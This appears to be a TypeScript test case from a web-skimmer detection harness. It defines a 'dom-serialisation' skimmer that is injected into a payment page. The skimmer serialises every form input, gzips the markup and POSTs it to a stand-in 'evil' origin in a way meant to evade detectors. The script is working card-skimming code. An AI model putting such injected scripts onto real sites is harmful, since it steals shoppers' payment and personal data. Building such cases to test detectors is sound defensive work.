import { gunzipSync } from 'node:zlib';
import { holds, js, skimmer } from '../behaviour.ts';
import { at } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'dom-serialisation',
  why: 'Values are written into attributes and the whole form is sent as markup, compressed: no getter of a single field stands out.',
  covers: ['reading: serialised form', 'encoding: gzip', 'reading: every input'],
  base: 'direct',
  install: (site) =>
    site.append(
      onPay(js`
    var form = document.forms[0].cloneNode(true);
    Array.from(document.forms[0].elements).forEach(function (e, i) { form.elements[i].setAttribute('value', e.value); });
    new Response(new Blob([new XMLSerializer().serializeToString(form)]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer().then(function (b) {
      fetch('${site.origins.evil}/replay', { method: 'POST', mode: 'no-cors', keepalive: true, body: b });
    });`),
    ),
  proof: holds((arrived) =>
    at(arrived, 'evil', '/replay')
      .filter(({ body }) => body[0] === 0x1f)
      .map(({ body }) => gunzipSync(body).toString()),
  ),
});
